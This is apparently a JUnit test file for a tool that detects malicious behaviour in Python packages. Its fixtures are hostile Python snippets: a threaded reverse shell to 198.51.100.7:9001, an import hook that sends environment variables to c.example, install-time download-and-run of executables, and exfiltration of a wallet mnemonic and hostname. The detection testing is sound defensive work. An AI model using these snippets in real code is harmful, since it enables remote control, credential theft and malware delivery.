package dev.assay.core.code.evaluation;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Phase;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What sets code off: hooks, threads, commands, files that are written and started.
class TriggerTest {

  @Test
  void threadsAndSilenceAreInTheTrail() {
    List<Act> acts =
        ActLines.acts(
            List.of(
                ActLines.file(
                    "pkg/__init__.py",
                    """
                    import socket, subprocess, threading
                    def work():
                        try:
                            link = socket.socket()
                            link.connect(('198.51.100.7', 9001))
                            while True:
                                order = link.recv(4096).decode()
                                if not order:
                                    break
                                link.sendall(subprocess.getoutput(order).encode())
                        except Exception:
                            pass
                    threading.Thread(target=work, daemon=True).start()
                    """,
                    Phase.IMPORT)));
    assertThat(ActLines.lines(acts))
        .contains(
            "SPAWNS … carries REMOTE at pkg/__init__.py:10 IMPORT",
            "SENDS 198.51.100.7:9001 carries REMOTE at pkg/__init__.py:10 IMPORT");
    assertThat(acts)
        .allSatisfy(act -> assertThat(act.trail()).contains("in a thread", "errors swallowed"));
  }

  @Test
  void hooksOfTheImportSystem() {
    assertThat(
            ActLines.of(
                List.of(
                    ActLines.file(
                        "pkg/__init__.py",
                        """
                        import os, sys, urllib.request
                        class Finder:
                            def find_spec(self, name, path, target=None):
                                data = str(dict(os.environ)).encode()
                                urllib.request.urlopen('https://c.example/e', data=data)
                        sys.meta_path.insert(0, Finder())
                        """,
                        Phase.IMPORT))))
        .contains("SENDS https://c.example/e carries ENVIRONMENT at pkg/__init__.py:5 IMPORT");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        """
        import os
        class Text:
            def __init__(self):
                self.all = ''
            def put(self, code):
                self.all = self.all + chr(code)
        def later():
            text = Text()
            for code in (119, 104, 111, 97, 109, 105):
                text.put(code)
            os.system(text.all)
        """,
        """
        import os
        def put(text, code):
            text.append(chr(code))
        def later():
            text = []
            for code in (119, 104, 111, 97, 109, 105):
                put(text, code)
            os.system(''.join(text))
        """,
        """
        import os
        text = ''
        def put(code):
            global text
            text = text + chr(code)
        def later():
            put(119), put(104), put(111), put(97), put(109), put(105)
            os.system(text)
        """
      })
  void textThatCallsThatGiveNothingPutTogether(String program) {
    assertThat(ActLines.of(List.of(ActLines.file("pkg/tool.py", program, Phase.CALL))))
        .anySatisfy(line -> assertThat(line).startsWith("SPAWNS ").contains("whoami"));
  }

  @Test
  void atExit() {
    assertThat(
            ActLines.ofSetup(
                """
                import atexit, os
                @atexit.register
                def later():
                    os.system('whoami')
                """))
        .contains("SPAWNS whoami at setup.py:4 INSTALL");
  }

  @Test
  void commandsThatAreNotHandedOver() {
    assertThat(
            ActLines.ofSetup(
                """
                import os
                from setuptools.command.install import install
                class Hidden(install):
                    def run(self):
                        os.system('whoami')
                class Other:
                    def run(self):
                        os.system('hostname')
                """))
        .contains(
            "SPAWNS whoami at setup.py:5 INSTALL CONDITIONAL",
            "SPAWNS hostname at setup.py:8 CALL");
  }

  @Test
  void mainOfAnImportedModuleIsNoInstallation() {
    assertThat(
            ActLines.of(
                List.of(
                    ActLines.file("setup.py", "import tool\n", Phase.INSTALL),
                    ActLines.file(
                        "tool.py",
                        "import os\nif __name__ == '__main__':\n  os.system('ls')\n",
                        Phase.CALL))))
        .containsExactly("SPAWNS ls at tool.py:3 ENTRY");
  }

  @Test
  void temporaryFiles() {
    assertThat(
            ActLines.ofSetup(
                """
                import subprocess, tempfile, requests
                with tempfile.NamedTemporaryFile(suffix='.exe', delete=False) as t:
                    t.write(requests.get('https://cdn.example/a.exe').content)
                subprocess.Popen(t.name)
                """))
        .contains(
            "WRITES_FILE %TEMP%/….exe carries REMOTE at setup.py:3 INSTALL",
            "SPAWNS %TEMP%/….exe carries REMOTE at setup.py:4 INSTALL");
  }

  @Test
  void archivesThatAreUnpackedAndStarted() {
    assertThat(
            ActLines.ofSetup(
                """
                import io, os, subprocess, urllib.request, zipfile
                folder = os.path.join(os.path.expanduser('~'), '.cache', 'runtime')
                data = urllib.request.urlopen('https://files.example/runtime.zip').read()
                zipfile.ZipFile(io.BytesIO(data)).extractall(folder)
                subprocess.Popen([os.path.join(folder, 'bun'), 'run', 'a.js'])
                """))
        .contains(
            "WRITES_FILE ~/.cache/runtime carries REMOTE at setup.py:4 INSTALL",
            "SPAWNS ~/.cache/runtime/bun run a.js carries REMOTE at setup.py:5 INSTALL");
  }

  @Test
  void scriptsThatAreWrittenRenamedAndStarted() {
    assertThat(
            ActLines.ofSetup(
                """
                import os, shutil, subprocess, sys
                open('a.txt', 'w').write("import os\\nos.system('whoami')")
                shutil.move('a.txt', 'later.py')
                subprocess.Popen([sys.executable, 'later.py'])
                """))
        .contains("SPAWNS whoami at setup.py:4 INSTALL");
    assertThat(ActLines.ofSetup("open('a.py', 'w').write(\"import os\\nos.system('whoami')\")\n"))
        .containsExactly("WRITES_FILE a.py at setup.py:1 INSTALL");
  }

  @Test
  void keysByTheirUse() {
    assertThat(
            ActLines.ofModule(
                """
                import requests
                from eth_account import Account
                def check(phrase):
                    Account.from_mnemonic(phrase.strip())
                    requests.get('https://k.example/?p=' + phrase)
                """))
        .containsExactly(
            "SENDS https://k.example/?p=… carries SECRET_PARAMETER at module.py:5 CALL");
  }

  @Test
  void aBotsTokenIsAnAddress() {
    assertThat(
            ActLines.ofModule(
                """
                import telebot, socket
                def tell():
                    telebot.TeleBot('123:abc').send_message(1, socket.gethostname())
                """))
        .containsExactly(
            "SENDS https://api.telegram.org/bot123:abc carries HOST_IDENTITY at module.py:3 CALL");
  }

  @Test
  void functionsOfClientsThatAreReplaced() {
    assertThat(
            ActLines.ofModule(
                """
                import requests
                old = requests.get
                def get(url): return old(url)
                requests.get = get
                """))
        .contains("EVADES replaces `requests.get` at module.py:4 IMPORT");
  }
}
